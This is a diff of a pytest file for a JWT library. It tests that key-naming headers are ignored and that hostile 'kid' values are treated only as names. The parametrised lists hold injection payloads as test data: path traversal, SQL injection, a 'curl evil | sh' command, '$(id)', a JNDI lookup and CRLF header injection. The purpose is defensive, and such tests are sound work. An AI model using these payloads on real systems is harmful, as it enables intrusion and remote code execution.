@@ -4,13 +4,15 @@ import json
 
 import pytest
 
-from django_jwtkit.errors import AlgorithmRefused, MalformedToken, TokenError, UnknownKey
-from django_jwtkit.jose import Key, KeySet, jws, unverified_header
+from django_jwtkit.errors import AlgorithmRefused, BadSignature, MalformedToken, TokenError, UnknownKey
+from django_jwtkit.jose import Key, KeySet, jwe, jws, jwt, unverified_header
 from django_jwtkit.jose.encoding import b64u_encode
+from django_jwtkit.jose.jwa.signatures import ALGORITHMS
 from tests.jose.signing import ALGS, NOW, decoded, forged, key, public
 
+STRANGER = Key.generate("HS256", kid="stranger")
 OUTSIDE = [
-    pytest.param({"jwk": Key.generate("RS256", size=2048).to_dict()}, marks=pytest.mark.threat("HKEY-001")),
+    pytest.param({"jwk": STRANGER.to_dict(private=True)}, marks=pytest.mark.threat("HKEY-001", "HKEY-002")),
     pytest.param({"jwk": {"kty": "oct", "k": "AAAA"}}, marks=pytest.mark.threat("HKEY-002")),
     pytest.param({"jku": "http://127.0.0.1:1/"}, marks=pytest.mark.threat("HKEY-003")),
     pytest.param({"x5u": "http://127.0.0.1:1/"}, marks=pytest.mark.threat("HKEY-004")),
@@ -24,9 +26,21 @@ OUTSIDE = [
 
 @pytest.mark.parametrize("header", OUTSIDE, ids="+".join)
 def test_a_header_never_brings_or_names_its_own_key(header):
-    """Refused before any key is looked for, although signed by our own key."""
-    with pytest.raises(MalformedToken):
-        decoded(forged(header=header))
+    """What names a key is not looked at, so the token is good by our key, and by no other."""
+    assert decoded(forged(header=header))["sub"] == "42"
+    text = jws.sign(b"{}", STRANGER)
+    signing_input = ".".join((forged(header=header).split(".")[0], text.split(".")[1]))
+    signature = ALGORITHMS["HS256"].sign(STRANGER.native_private, signing_input.encode())
+    with pytest.raises(BadSignature):
+        decoded(f"{signing_input}.{b64u_encode(signature)}")
+
+
+@pytest.mark.parametrize(
+    "header", [{"x5t": 1}, {"x5t#S256": None}, {"jku": []}, {"x5c": "MIIB"}, {"jwk": "x"}], ids=str
+)
+def test_what_is_not_looked_at_may_be_anything(header):
+    """Within the bounds of the parser."""
+    assert decoded(forged(header=header))["sub"] == "42"
 
 
 CRITICAL = [
@@ -131,22 +145,42 @@ def test_an_alg_there_must_be():
         decoded(forged(header=b'{"typ": "at+jwt"}'))
 
 
-KIDS = [
+HOSTILE = [
     pytest.param("../../../../dev/null", marks=pytest.mark.threat("KID-001")),
     pytest.param("x' UNION SELECT 'secret'--", marks=pytest.mark.threat("KID-002")),
-    pytest.param("k1\x00", marks=pytest.mark.threat("KID-003")),
-    pytest.param("k" * 10_000, marks=pytest.mark.threat("KID-004")),
-    pytest.param("k" * 129, marks=pytest.mark.threat("KID-004")),
+    pytest.param("k" * 255, marks=pytest.mark.threat("KID-004")),
     pytest.param("../k1%00.pem", marks=pytest.mark.threat("KID-005")),
     pytest.param("k1; curl evil | sh", marks=pytest.mark.threat("KID-006")),
     pytest.param("$(id)", marks=pytest.mark.threat("KID-006")),
     pytest.param("${jndi:ldap://evil/x}", marks=pytest.mark.threat("KID-007")),
+    pytest.param("key-HS256 ", marks=pytest.mark.threat("KID-010")),
+    pytest.param("ｋey-HS256", marks=pytest.mark.threat("KID-009")),
+]
+
+
+@pytest.mark.parametrize("kid", HOSTILE, ids=lambda kid: ascii(kid)[:30])
+def test_a_kid_is_nothing_but_a_name(kid):
+    """Any printable text: it finds the key of exactly that name, or none, and no message repeats it."""
+    for by in (key("HS256"), KeySet([key("HS256"), key("HS384")])):
+        with pytest.raises(UnknownKey) as refusal:
+            jws.verify(forged(header={"kid": kid}), by, algorithms={"HS256"})
+        assert kid not in str(refusal.value)
+    named = Key.from_dict(key("HS256").to_dict(private=True), kid=kid)
+    for by in (named, KeySet([named, key("HS384")])):
+        assert jws.verify(forged(header={"kid": kid}), by, algorithms={"HS256"}).key is named
+
+
+KIDS = [
+    pytest.param("k1\x00", marks=pytest.mark.threat("KID-003")),
+    pytest.param("k" * 10_000, marks=pytest.mark.threat("KID-004")),
+    pytest.param("k" * 256, marks=pytest.mark.threat("KID-004")),
     pytest.param("k1\r\nSet-Cookie: a=b", marks=pytest.mark.threat("KID-008")),
     pytest.param("k1\n", marks=pytest.mark.threat("KID-008")),
+    pytest.param("k1\x1b[2J", marks=pytest.mark.threat("KID-008")),
+    pytest.param("k\x85", marks=pytest.mark.threat("KID-008")),
+    pytest.param("k\u2028", marks=pytest.mark.threat("KID-008")),
     pytest.param("k\u202e1", marks=pytest.mark.threat("KID-009")),
-    pytest.param("k1 ", marks=pytest.mark.threat("KID-010")),
-    pytest.param("", marks=pytest.mark.threat("KID-020")),
-    pytest.param("k１", marks=pytest.mark.threat("KID-009")),
+    pytest.param("k\u200b", marks=pytest.mark.threat("KID-009")),
     *(
         pytest.param(kid, marks=pytest.mark.threat("KID-020"))
         for kid in (1, None, True, ["x"], {"$ne": None}, 1.5)
@@ -172,12 +206,29 @@ def test_a_kid_is_compared_octet_by_octet(kid):
             jws.verify(forged(header={"kid": kid}), by, algorithms={"HS256"})
 
 
-@pytest.mark.parametrize(
-    "kid", ["a", "2011-04-29", "bilbo.baggins@hobbiton.example", "A" * 128, "a_b~c:d+e="]
-)
+def test_an_empty_kid_names_no_key():
+    """Some issuers write it where there is none: a single key is that key, and no other is tried."""
+    text = forged(header={"kid": ""})
+    assert jws.verify(text, public("HS256"), algorithms={"HS256"}).header["kid"] == ""
+    assert jws.verify(text, KeySet([public("HS256")]), algorithms={"HS256"})
+    with pytest.raises(UnknownKey):
+        jws.verify(text, KeySet([public("HS256"), public("HS384")]), algorithms={"HS256"})
+
+
+FOREIGN_KIDS = [
+    *("a", "2011-04-29", "bilbo.baggins@hobbiton.example", "A" * 128, "a_b~c:d+e=", "A" * 255),
+    *("J4j+I06r0I0vpYnBNucugV8xAPV5/Xv4uYrrpwwSNK0=", "did:web:example.com#key-1"),
+    *("https://idp.example/keys/1?v=2", "HMAC key used in JWS A.1 example", "Schlüssel", "鍵", " "),
+]
+
+
+@pytest.mark.parametrize("kid", FOREIGN_KIDS)
 def test_common_kids_of_others_are_fine(kid):
-    """Dates, addresses, thumbprints, base64."""
+    """Dates, addresses, thumbprints, base64, DIDs, URLs, sentences."""
     assert unverified_header(forged(header={"kid": kid}))["kid"] == kid
+    one = Key.generate("ES256", kid=kid)
+    keys = KeySet.from_dict(KeySet([one.public(), public("ES384")]).to_dict())
+    assert jws.verify(jws.sign(b"x", one), keys, algorithms={"ES256"}).key == one.public()
 
 
 @pytest.mark.threat("TYP-008", "TYP-009", "TYP-010")
@@ -209,6 +260,36 @@ def test_an_unverified_header_is_parsed_as_strictly(text):
     """A log or a look-up is a target as well."""
     with pytest.raises(MalformedToken):
         unverified_header(text)
+
+
+@pytest.mark.parametrize("name", ["alg", "enc", "kid", "crit", "b64", "zip", "jwk", "jku", "x5u", "x5c"])
+def test_the_caller_sets_no_parameter_that_is_not_theirs(name):
+    """Of a JWS, of a JWE, and of a JWT."""
+    for write in (
+        lambda: jws.sign(b"", key("HS256"), header={name: "x"}),
+        lambda: jwe.encrypt(b"", Key.generate("A256KW"), header={name: "x"}),
+        lambda: jwt.encode({"exp": NOW}, key("HS256"), header={name: "x"}),
+    ):
+        with pytest.raises(ValueError, match=name):
+            write()
+
+
+@pytest.mark.parametrize("name", ["x5t", "x5t#S256", "nonce", "https://example.com/x"])
+def test_the_caller_may_set_others(name):
+    """Such as the thumbprint of a certificate, for verifiers that choose the key by it."""
+    text = jwt.encode({"sub": "42", "exp": NOW + 9}, key("HS256"), typ="a+jwt", header={name: "AAAA"})
+    header = {"alg": "HS256", "kid": "key-HS256", "typ": "a+jwt", name: "AAAA"}
+    assert unverified_header(text) == header
+    assert decoded(text, typ="a+jwt")["sub"] == "42"
+
+
+def test_a_type_has_a_parameter_of_its_own():
+    """Two ways to say it would be one too many."""
+    with pytest.raises(ValueError, match="typ="):
+        jwt.encode({"exp": NOW}, key("HS256"), header={"typ": "x"})
+    for header in ("typ", ["typ"], [("nonce", "x")]):
+        with pytest.raises(TypeError):
+            jwt.encode({"exp": NOW}, key("HS256"), header=header)
 
 
 def test_a_header_in_other_spellings_is_one_header():
